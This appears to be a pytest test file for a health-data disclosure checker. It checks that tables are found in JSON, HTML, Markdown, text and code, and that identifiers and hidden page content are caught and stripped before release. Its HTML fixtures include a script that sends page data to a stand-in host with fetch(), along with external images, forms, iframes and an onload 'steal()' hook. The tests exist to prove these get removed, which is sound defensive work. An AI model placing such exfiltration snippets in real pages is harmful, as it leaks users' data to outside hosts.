"""JSON, pages, Markdown, texts, LaTeX and programs: tables wherever they stand, what hides, and what leaves."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hdh_jupyter.disclosure import Report, check_and_sanitise, default_policy
from hdh_jupyter.disclosure.documents import Document, Unreadable
from hdh_jupyter.disclosure.readers import kind_of, read

Judge = Callable[[str, str | bytes], Report]
NIR = "295109912611193"
SHOWN = (("region", "n"), [("Nord", "120"), ("Sud", "340")])


def document(tmp_path: Path, name: str, content: str | bytes) -> Document:
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return read(path, kind_of(name, default_policy()), default_policy())


def rows_of(document: Document) -> list[tuple[tuple[str, ...], list[tuple[str, ...]]]]:
    return [
        (
            table.titles,
            [row for b in table.batches() for row in zip(*(c.to_pylist() for c in b.columns), strict=True)],
        )
        for table in document.tables
    ]


def text_of(document: Document) -> str:
    return "\n".join("".join(text.chunks()) for text in document.texts)


def released(tmp_path: Path, name: str, content: str) -> str | None:
    """Return what leaves of a file, which must pass its own check and leave again unchanged."""
    forms = []
    for turn in ("1", "2"):
        (tmp_path / name).write_text(content, "utf-8")
        (tmp_path / turn).mkdir()
        report = check_and_sanitise([tmp_path / name], tmp_path / turn)
        if not report.files[0].releasable:
            return None
        content = (tmp_path / turn / "0").read_text("utf-8")
        forms.append(content)
    assert forms[0] == forms[1]
    return content


RECORDS: list[Any] = [
    [{"region": "Nord", "n": 120}, {"region": "Sud", "n": 340}],
    {"data": {"rows": [{"region": "Nord", "n": 120}, {"region": "Sud", "n": 340}]}},
    {"region": ["Nord", "Sud"], "n": [120, 340]},
    {"region": {"0": "Nord", "1": "Sud"}, "n": {"0": 120, "1": 340}},
    {"columns": ["region", "n"], "data": [["Nord", 120], ["Sud", 340]]},
    {"schema": {"fields": [{"name": "n"}]}, "data": [{"region": "Nord", "n": 120}, {"region": "Sud", "n": 340}]},
    [["region", "n"], ["Nord", 120], ["Sud", 340]],
]


@pytest.mark.parametrize("value", [pytest.param(value, id=f"{n:02}") for n, value in enumerate(RECORDS)])
def test_every_way_to_write_a_table_as_json_is_read(value: Any, tmp_path: Path) -> None:
    assert SHOWN in rows_of(document(tmp_path, "t.json", json.dumps(value)))


def test_crossed_and_labelled_counts_are_tables(tmp_path: Path) -> None:
    crossed = {"Nord": {"F": 120, "H": 130}, "Sud": {"F": 140, "H": 150}}
    assert rows_of(document(tmp_path, "t.json", json.dumps(crossed))) == [
        (("", "F", "H"), [("Nord", "120", "130"), ("Sud", "140", "150")])
    ]
    labelled = {"passages": {"Nord": 120, "Sud": 340}}
    assert (("", "passages"), [("Nord", "120"), ("Sud", "340")]) in rows_of(
        document(tmp_path, "t.json", json.dumps({**labelled, "titre": "x"}))
    )


def test_lines_of_json_stream_as_one_table(tmp_path: Path) -> None:
    lines = '{"id": 1, "nom": {"famille": "x"}}\n{"id": 2, "noms": [{"a": 1}, {"a": 2}]}\n\n{"id": 3}'
    assert rows_of(document(tmp_path, "t.ndjson", lines)) == [
        (
            ("id", "nom.famille", "noms[0].a", "noms[1].a"),
            [("1", "x", "", ""), ("2", "", "1", "2"), ("3", "", "", "")],
        )
    ]


def test_an_escaped_identifier_is_found(judged: Judge) -> None:
    escaped = "".join(f"\\u{ord(c):04x}" for c in NIR)
    report = judged("t.json", f'{{"note": "{escaped}"}}')
    assert "identifiers.nir" in {finding.rule for finding in report.findings}


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ('{"a": 1, "a": 2}', "unreadable"),
        ('{"a": ', "unreadable"),
        ("[" * 5000 + "]" * 5000, "unreadable"),
        ("[" * 150 + "]" * 150, "nested_deep"),
        ('{"a": 1' + "0" * 5000 + "}", "unreadable"),
        ("PK\3\4....", "mismatch"),
    ],
)
def test_json_that_cannot_be_looked_at_is_refused(content: str, reason: str, tmp_path: Path) -> None:
    with pytest.raises(Unreadable) as refused:
        document(tmp_path, "t.json", content)
    assert refused.value.key == reason


PAGE = """<!DOCTYPE html><html><head><title>Résultats</title>{head}</head><body {body}>
<h1>Passages</h1><p>Année 2023</p>
<table><thead><tr><th>region</th><th>n</th></tr></thead>
<tbody><tr><td>Nord</td><td>120</td></tr><tr><td>Sud</td><td>340</td></tr></tbody></table>{end}</body></html>"""


def page(head: str = "", body: str = "", end: str = "") -> str:
    return PAGE.format(head=head, body=body, end=end)


ROWS = json.dumps([{"id": f"P{n:05}X{n * 7919 % 1000:03}", "age": 20 + n % 60} for n in range(60)])
CSV = base64.b64encode(f"id;nir\n1;{NIR}\n".encode()).decode()

TRAPS: list[tuple[str, str, str]] = [
    ("remark", page(end="<!--" + "patient;" * 200 + "-->"), "patient;"),
    ("attribute", page(end=f'<div data-rows="{"patient;" * 200}"></div>'), "patient;"),
    ("element", page(end='<div style="display: none"><p>patient 12</p></div>'), "patient 12"),
    ("element", page(end="<template><table><tr><td>patient 12</td></tr></table></template>"), "patient 12"),
    ("element", page(end='<input type="hidden" value="patient 12">'), "patient 12"),
    ("external", page(end='<script>fetch("https://x.example/?" + document.title)</script>'), "x.example"),
    ("external", page(end='<img src="https://x.example/a.png">'), "x.example"),
    ("external", page(end='<form action="//x.example/"><input name="a"></form>'), "x.example"),
    ("external", page(end='<iframe src="https://x.example/"></iframe>'), "x.example"),
]


@pytest.mark.parametrize(("what", "content", "gone"), [pytest.param(*t, id=f"{n:02}") for n, t in enumerate(TRAPS)])
def test_what_a_page_hides_is_told_and_stays_behind(what: str, content: str, gone: str, tmp_path: Path) -> None:
    found = document(tmp_path, "t.html", content)
    assert what in {hidden.what for hidden in found.hidden if hidden.suspicious}
    assert SHOWN in rows_of(found)
    clean = released(tmp_path, "t.html", content)
    assert clean is not None
    assert gone not in clean
    assert "<td>120</td>" in clean
    assert "<title>Résultats</title>" in clean


@pytest.mark.parametrize(
    "end",
    [
        f"<script>var rows = {ROWS};</script>",
        f'<script type="application/json">{{"rows": {ROWS}}}</script>',
        f"<script>draw({{'a': 1}}); load({ROWS}, {{}})</script>",
    ],
)
def test_rows_in_a_script_are_a_table(end: str, tmp_path: Path) -> None:
    assert any(
        titles == ("id", "age") and len(rows) == 60
        for titles, rows in rows_of(document(tmp_path, "t.html", page(end=end)))
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("t.html", page(end=f'<a download href="data:text/csv;base64,{CSV}">x</a>')),
        ("t.html", page(end=f"<!-- {NIR} -->")),
        ("t.html", page(end=f'<script>const patient = "{NIR}"</script>')),
        ("t.html", page(end=f'<svg xmlns="http://www.w3.org/2000/svg"><text>{NIR}</text></svg>')),
        ("t.html", page(body=f'data-patient="{NIR} et la suite"')),
        ("t.md", f"# Titre\n\n[x](data:text/csv;base64,{CSV})\n"),
        ("t.md", f"# Titre\n\n<!-- {NIR} -->\n"),
        ("t.txt", f"texte\n{NIR}\n"),
        ("t.tex", f"\\section{{x}}\n% {NIR}\n"),
        ("t.py", f'x = "{NIR}"\n'),
    ],
)
def test_an_identifier_is_found_wherever_it_is(name: str, content: str, judged: Judge) -> None:
    assert "identifiers.nir" in {finding.rule for finding in judged(name, content).findings}


def test_a_page_of_results_leaves_with_what_shows(tmp_path: Path) -> None:
    content = page(head="<style>p {color: red}</style>", body='onload="steal()"', end="<p>a &lt; b &amp; c")
    clean = released(tmp_path, "t.html", content)
    assert clean is not None
    assert "steal" not in clean
    assert "a &lt; b &amp; c" in clean
    assert rows_of(document(tmp_path, "u.html", clean)) == [SHOWN]


def test_markdown_leaves_with_its_words_and_tables(tmp_path: Path) -> None:
    table = "| region | n |\n|---|---|\n| Nord | 120 |\n| Sud | 340 |\n"
    words = "![courbe](https://x.example/a.png) voir [ici](https://x.example) <b>gras</b>\n<<b>!-- x -->\n"
    content = f"# Titre\n\n{table}\n{words}"
    assert SHOWN in rows_of(document(tmp_path, "t.md", content))
    clean = released(tmp_path, "t.md", content)
    assert clean is not None
    assert table in clean
    assert "courbe voir ici gras" in clean
    assert "x.example" not in clean
    assert "<" not in clean


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("t.txt", "Résultats\n\nregion     n\nNord     120\nSud      340\n"),
        ("t.txt", "region\tn\nNord\t120\nSud\t340\n"),
        ("t.log", "  region   n\n1 Nord   120\n2 Sud    340\n"),
        ("t.tex", "\\begin{tabular}{lr}\nregion & n \\\\ \\hline\nNord & 120 \\\\\nSud & 340 \\\\\n\\end{tabular}\n"),
        ("t.py", 'd = pd.DataFrame({"region": ["Nord", "Sud"], "n": [120, 340]})\n'),
        ("t.py", 'd = pd.DataFrame([{"region": "Nord", "n": 120}, {"region": "Sud", "n": 340}])\n'),
        ("t.py", 'x = """\nregion;n\nNord;120\nSud;340\n"""\n'),
        ("t.sql", "insert into t (region, n) values ('Nord', 120), ('Sud', 340);\n"),
        ("t.r", 'd <- data.frame(region = c("Nord", "Sud"), n = c(120, 340))\n'),
        ("t.do", "clear\ninput str8 region n\nNord 120\nSud 340\nend\n"),
    ],
)
def test_tables_in_texts_and_programs_are_read(name: str, content: str, tmp_path: Path) -> None:
    rows = [row for _, rows in rows_of(document(tmp_path, name, content)) for row in rows]
    assert any(row[-2:] == ("Sud", "340") for row in rows)


@pytest.mark.parametrize(
    "content",
    [
        'grid = {"max_depth": [2, 4, 8], "leaf": [1, 5, 10]}\n',
        "for i in range(3):\n    print(i, 5)\n",
        'COLONNES = ["BEN_NIR_PSA", "BEN_SEX_COD"]\nn = 4\n',
    ],
)
def test_settings_in_programs_are_no_data(content: str, tmp_path: Path) -> None:
    assert rows_of(document(tmp_path, "t.py", content)) == []


def test_texts_leave_without_invisible_characters(tmp_path: Path) -> None:
    clean = released(tmp_path, "t.txt", "a\u200bb\r\nc\x07d\re\r")
    assert clean == "ab\ncd\ne\n"
